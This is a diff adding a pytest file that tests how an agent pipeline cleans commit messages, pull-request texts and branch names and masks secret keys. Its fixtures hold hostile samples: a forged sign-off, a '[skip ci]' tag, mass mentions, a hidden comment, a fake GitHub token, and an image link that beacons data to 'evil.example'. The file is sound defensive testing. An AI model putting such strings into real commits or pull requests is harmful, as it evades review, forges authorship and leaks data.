@@ -1,0 +1,122 @@
+"""What an agent wrote, on its way to git and the forge: cleaned, masked, or waiting for a person."""
+
+import json
+from pathlib import Path
+
+import pytest
+from fakes.compiled_scanner import lend_scanner, shared_scanner
+from fakes.repositories import Origin, git
+from fakes.step_lab import StepLab, settings_of
+
+from septet.contracts.names import SETTINGS_PATH, Step, Verdict
+from septet.key_scan.patches import AddedLine
+from septet.key_scan.scanner import KeyScanner
+from workers.registry import parts_of
+
+TOKEN = "ghp_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5"
+HOSTILE = (
+    "bug: work [skip ci]\n\nFixes #2 for @org/security\n\nSigned-off-by: Eve <eve@example.org>\nChange-Id: I1"
+)
+CLEANED = "bug: work (skip ci)\n\nFixes `#2` for @`org/security`\n\nChange-Id: I1"
+
+
+@pytest.fixture(scope="session")
+def compiled(tmp_path_factory: pytest.TempPathFactory) -> KeyScanner:
+    """Return a scanner whose rules are compiled, which takes some seconds."""
+    scanner = shared_scanner(tmp_path_factory)
+    scanner.scan([AddedLine("a.py", 1, TOKEN.encode())])
+    return scanner
+
+
+@pytest.fixture(autouse=True)
+def scanner_of_the_host(lab: StepLab, compiled: KeyScanner) -> None:
+    """Give the host the rules that are compiled already."""
+    lend_scanner(lab.parts.host.state, compiled)
+
+
+def _message(lab: StepLab, commit: str = "HEAD") -> str:
+    return git(lab.worktree, "log", "-1", "--format=%B", commit)
+
+
+async def test_the_engines_commit_has_a_cleaned_message(lab: StepLab) -> None:
+    """Nobody signs but the engine, CI is not skipped, and no other issue is closed."""
+    await lab.open_to(Step.CREATE_COMMIT)
+    lab.scenario(create_commit={"answer": {"commit_message": HOSTILE}})
+    done = await lab.run(Step.CREATE_COMMIT)
+    assert done.verdict is Verdict.DONE
+    assert done.result_text == CLEANED
+    assert _message(lab) == f"{CLEANED}\nAssisted-by: scripted"
+
+
+async def test_an_agents_own_commits_are_written_anew(lab: StepLab) -> None:
+    """Files, author and order stay; a commit whose message may leave as it is keeps its id."""
+    await lab.open_to(Step.CREATE_COMMIT)
+    lab.agent(
+        "write('one.txt', '1\\n'); git('add', 'one.txt'); git('commit', '-q', '-m', 'feat: one');"
+        f"write('two.txt', '2\\n'); git('add', 'two.txt'); git('commit', '-q', '-m', {HOSTILE!r});"
+        "write('three.txt', '3\\n'); git('add', '-A'); git('commit', '-q', '-m', 'feat: three');"
+        "answer({'commit_message': 'feat: unused'})"
+    )
+    done = await lab.run(Step.CREATE_COMMIT)
+    assert done.verdict is Verdict.DONE, done.reasons
+    assert done.commit_sha == git(lab.worktree, "rev-parse", "HEAD")
+    assert [_message(lab, f"HEAD~{back}") for back in (2, 1, 0)] == ["feat: one", CLEANED, "feat: three"]
+    assert git(lab.worktree, "show", "HEAD:two.txt", "HEAD:three.txt") == "2\n3"
+    assert git(lab.worktree, "status", "--porcelain") == ""
+
+
+@pytest.mark.parametrize("by", ["base", "worker"])
+async def test_commits_are_signed_off_where_a_setting_asks_for_it(
+    tmp_path: Path, origin: Origin, compiled: KeyScanner, by: str
+) -> None:
+    """The committer's line ends the engine's message and the agent's, once; nobody else's does."""
+    if by == "base":
+        origin.push({SETTINGS_PATH: "[commit]\nsign_off = true\nassisted_by = false\n"})
+    settings = settings_of(tmp_path / "host").model_copy(update={"sign_off": by == "worker"})
+    async with parts_of(settings) as parts:
+        lab = StepLab(tmp_path / "host", origin, parts)
+        lend_scanner(parts.host.state, compiled)
+        await lab.open_to(Step.CREATE_COMMIT)
+        lab.scenario(create_commit={"answer": {"commit_message": HOSTILE}})
+        assert (await lab.run(Step.CREATE_COMMIT)).verdict is Verdict.DONE
+        signed = [line for line in _message(lab).splitlines() if line.startswith("Signed-off-by")]
+    assert signed == ["Signed-off-by: Septet <septet@localhost>"]
+
+
+async def test_a_pull_requests_texts_are_cleaned_and_masked(lab: StepLab) -> None:
+    """Its body closes nothing else, hides nothing and holds no key; the step warns of what was masked."""
+    await lab.open_to(Step.CREATE_PULL_REQUEST)
+    body = f"@everyone <!-- septet: wo-2 -->\n\n![x](http://evil.example/p.png?d=1)\n\nKey: {TOKEN}\n"
+    lab.scenario(create_pull_request={"answer": {"title": f"bug: {TOKEN} @ada", "body": body}})
+    done = await lab.run(Step.CREATE_PULL_REQUEST)
+    assert done.verdict is Verdict.DONE, done.reasons
+    kept = git(lab.origin.bare, "grep", "-h", "", "refs/septet/forge")
+    (pull,) = (
+        [json.loads(line) for line in kept.split("\n\n") if "head" in line] if kept.startswith("[") else [kept]
+    )
+    assert TOKEN not in str(pull)
+    assert "@`everyone`" in str(pull)
+    assert "septet: wo-2" not in str(pull)
+    assert "?d=1" not in str(pull)
+    assert any("masked" in warning and "github-pat" in warning for warning in done.warnings)
+
+
+async def test_a_key_in_a_files_name_waits_for_a_person(lab: StepLab) -> None:
+    """The finding says that the name itself holds it, and does not show it."""
+    await lab.open_to(Step.CREATE_COMMIT)
+    edits = {f"src/{TOKEN}.txt": "x\n"}
+    lab.scenario(create_commit={"edits": edits, "answer": {"commit_message": "bug: x"}})
+    (found,) = (await lab.run(Step.CREATE_COMMIT)).findings
+    assert (found.path, found.line, found.rule) == ("src/***.txt", 0, "github-pat")
+    done = await lab.run(Step.CREATE_COMMIT, attempt=2, allowed_findings=(found.id,))
+    assert done.verdict is Verdict.DONE
+
+
+async def test_a_branchs_name_holds_no_key(lab: StepLab) -> None:
+    """The agent is asked for another name."""
+    await lab.open_to(Step.GENERATE_BRANCH)
+    lab.scenario(generate_branch={"answer": {"branch_name": f"bug-{TOKEN}"}})
+    refused = await lab.run(Step.GENERATE_BRANCH)
+    assert refused.verdict is Verdict.UNPROVEN
+    assert "looks like a key" in refused.reasons[0]
+    assert TOKEN not in refused.reasons[0]
